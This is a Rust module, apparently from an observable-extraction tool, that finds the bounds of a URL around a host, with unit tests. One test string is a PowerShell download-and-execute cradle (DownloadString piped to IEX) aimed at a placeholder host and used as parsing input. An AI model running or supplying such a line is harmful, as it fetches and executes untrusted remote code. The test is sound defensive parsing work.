//! Where the URL around a host starts and ends.

use super::letters::{before, end_of, start_of};
use statement::observable::MAX_URL;

/// The longest scheme that is looked for.
const MAX_SCHEME: usize = 16;

/// The longest user name and password that are looked past.
const MAX_USERINFO: usize = 256;

/// The bounds of the URL whose host is at `start..end`, brackets not included. `None` where the host is not that of a URL: no scheme
/// stands before it, and no path follows.
pub(super) fn extent(text: &[u8], start: usize, end: usize) -> Option<(usize, usize)> {
    let (start, end) = match (before(text, start), text.get(end)) {
        (Some(b'['), Some(b']')) => (start - 1, end + 1),
        _ => (start, end),
    };
    let end = behind_port(text, end);
    let path = matches!(text.get(end), Some(b'/'));
    let first = match scheme(text, start) {
        Some(first) => first,
        // A path in another URL, or a resource of somebody's chat address.
        None if !path || matches!(before(text, start), Some(b'@')) => return None,
        None if before(text, start) == Some(b'/') && !text.get(..start).is_some_and(is_relative) => {
            return None;
        }
        None => start,
    };
    Some((first, stop(text, end)))
}

/// Whether a text ends with the two slashes that stand for the scheme of the page at hand, and no more.
fn is_relative(before: &[u8]) -> bool {
    match before {
        [.., other, b'/', b'/'] => !other.is_ascii_alphanumeric() && *other != b'/',
        slashes => slashes == b"//",
    }
}

fn behind_port(text: &[u8], end: usize) -> usize {
    let stop = end_of(text, end + 1, |byte| byte.is_ascii_digit());
    if text.get(end) == Some(&b':') && (2..=6).contains(&(stop - end)) { stop } else { end }
}

/// Where the scheme starts, if one stands before the host, with a user name between them or not.
fn scheme(text: &[u8], host: usize) -> Option<usize> {
    let authority = if before(text, host) == Some(b'@') { userinfo(text, host - 1) } else { host };
    let name = text.get(..authority)?.strip_suffix(b"://")?;
    let start = start_of(name, name.len(), |byte| byte.is_ascii_alphanumeric() || b"+-".contains(&byte));
    // Digits may stick to it, as those of an escape do.
    let letters = end_of(name, start, |byte| !byte.is_ascii_alphabetic());
    let start = super::letters::behind_escape(text, start).max(letters);
    (1..=MAX_SCHEME).contains(&name.len().saturating_sub(start)).then_some(start)
}

fn userinfo(text: &[u8], at: usize) -> usize {
    let near = at.saturating_sub(MAX_USERINFO);
    let window = text.get(near..at).unwrap_or_default();
    near + start_of(window, window.len(), |byte| is_raw(byte) && byte != b'/')
}

/// Behind the path and query: what follows is not part of a URL, or is punctuation around it.
fn stop(text: &[u8], from: usize) -> usize {
    let limit = from.saturating_add(MAX_URL).min(text.len());
    let run = end_of(text.get(..limit).unwrap_or_default(), from, is_raw);
    let mut open = 0_usize;
    let url = text.get(from..run).unwrap_or_default();
    let bracket = url.iter().position(|&byte| {
        open += usize::from(byte == b'(');
        let closes = byte == b')' && open == 0;
        open -= usize::from(byte == b')' && open > 0);
        closes
    });
    let url = url.get(..bracket.unwrap_or(url.len())).unwrap_or_default();
    let behind = url.iter().rev().take_while(|byte| b".,;:!?*]".contains(byte)).count();
    from + url.len() - behind
}

/// Whether a byte may stand in a URL as people write it. A single quote may by the standard, but mostly it ends a string of a script.
fn is_raw(byte: u8) -> bool {
    byte > b' ' && byte != 0x7F && !b"\"'<>\\^`{|}".contains(&byte)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The URL around the host `h.example` in a text.
    fn url(text: &str) -> Option<&str> {
        let start = text.find("h.example").expect("the host");
        let (start, end) = extent(text.as_bytes(), start, start + 9)?;
        text.get(start..end)
    }

    #[test]
    fn a_url_ends_where_the_text_around_it_goes_on() {
        for (text, expected) in [
            ("http://h.example", "http://h.example"),
            ("see https://h.example/a, or not", "https://h.example/a"),
            (
                "(New-Object Net.WebClient).DownloadString('http://h.example/a.ps1');IEX",
                "http://h.example/a.ps1",
            ),
            ("(http://h.example/a_(b))", "http://h.example/a_(b)"),
            ("curl(http://h.example/a);", "http://h.example/a"),
            ("http://user:word@h.example:8080/a?b#c", "http://user:word@h.example:8080/a?b#c"),
            ("h.example/a", "h.example/a"),
            ("//h.example/a", "//h.example/a".get(2..).unwrap_or_default()),
            ("u=http%3a//x hxxp://h.example/.", "hxxp://h.example/"),
        ] {
            assert_eq!(url(text), Some(expected), "{text}");
        }
    }

    #[test]
    fn a_host_alone_is_no_url() {
        for text in ["h.example", "x@h.example/y", "a/h.example/b", "h.example:443", r"\\h.example\a"] {
            assert_eq!(url(text), None, "{text}");
        }
    }
}
